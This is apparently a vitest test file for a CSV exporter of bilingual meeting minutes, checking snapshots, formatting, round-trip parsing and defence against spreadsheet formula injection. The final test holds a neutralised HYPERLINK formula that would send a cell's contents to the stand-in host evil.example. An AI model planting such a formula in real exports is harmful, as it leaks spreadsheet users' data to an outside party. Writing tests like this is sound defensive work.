/**
 * Golden files for every CSV table in both languages; the CSV read back equals the data; formula
 * payloads come out neutralised. Rewrite the goldens with `UPDATE_SNAPSHOT=1` (or vitest's `-u`).
 */
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../import/parseCsv.js';
import { LOCALES } from '../locale.js';
import { buildMinutes } from './buildMinutes.js';
import { hostileFixture } from './hostileFixture.js';
import { minutesFixture } from './minutesFixture.js';
import { CSV_TABLES, minutesCsvRows, neutraliseCell, renderCsv } from './renderCsv.js';

const minutesOf = (locale: 'ar' | 'en') => {
  const { doc, ctx } = minutesFixture(locale);
  return buildMinutes(doc, ctx);
};

/** The cells as parsed back; parseCsv drops rows whose cells are all blank, as the writer never makes. */
const readBack = (csv: string): string[][] => parseCsv(csv).map((r) => r.cells);

describe('renderCsv', () => {
  for (const locale of LOCALES)
    for (const table of CSV_TABLES) {
      it(`matches the golden ${table} table in ${locale}`, async () => {
        await expect(renderCsv(minutesOf(locale), table)).toMatchFileSnapshot(
          `./golden/${table}.${locale}.csv`,
        );
      });
    }

  it('starts with a BOM, ends every row with CRLF and quotes every cell', () => {
    const m = minutesOf('ar');
    const csv = renderCsv(m, 'items');
    expect(csv.startsWith('\ufeff"')).toBe(true);
    expect(csv.endsWith('"\r\n')).toBe(true);
    // Rows end in CRLF; a line break inside a cell (a description's) stays inside its quotes.
    expect(csv.match(/"\r\n/g)).toHaveLength(minutesCsvRows(m, 'items').length);
    expect(csv).toContain(
      '"Pavements and crossings\nnear 40 schools"'
        .replace('Pavements and crossings', 'أرصفة وإشارات')
        .replace('near 40 schools', 'وممرات مرفوعة قرب 40 مدرسة'),
    );
  });

  it('reads back as the same cells', () => {
    for (const locale of LOCALES)
      for (const table of CSV_TABLES) {
        const m = minutesOf(locale);
        const rows = minutesCsvRows(m, table);
        expect(readBack(renderCsv(m, table))).toEqual(rows);
        expect(rows.length).toBeGreaterThan(1);
      }
  });

  it('holds the data of the minutes', () => {
    const m = minutesOf('en');
    const items = minutesCsvRows(m, 'items');
    expect(items).toContainEqual([
      'Brainstorm local priorities',
      '5',
      'Bus network to the outer districts',
      '',
      '1, 10, 11',
      'Civil society; Community and youth',
      'Mobility',
      'A bus line to Marka and Sahab (Civil society)',
    ]);
    expect(minutesCsvRows(m, 'votes')).toContainEqual([
      'Dot vote',
      'Dot voting',
      'All voters',
      '8',
      '3=',
      'Heatwave adaptation plan',
      'Points',
      '7',
    ]);
    expect(minutesCsvRows(m, 'attendance')).toContainEqual(['Total', '9', '', '']);
    expect(minutesCsvRows(m, 'attendance').flat()).not.toContain('Omar Khalil');
  });

  it('neutralises every cell that could start a formula, and reads back as the neutralised text', () => {
    for (const cell of ['=1+1', '+1', '-2', '@SUM(A1)', '\t=1', '\r=1', '\uFF1D1']) {
      expect(neutraliseCell(cell)).toBe(`'${cell}`);
    }
    expect(neutraliseCell('2=')).toBe('2=');
    expect(neutraliseCell('سلام')).toBe('سلام');
    const { doc, ctx } = hostileFixture('en');
    const m = buildMinutes(doc, ctx);
    for (const table of CSV_TABLES) {
      const back = readBack(renderCsv(m, table));
      expect(back).toEqual(minutesCsvRows(m, table).map((row) => row.map(neutraliseCell)));
      for (const cell of back.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(readBack(renderCsv(m, 'items')).flat()).toContain(
      `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
    );
  });
});
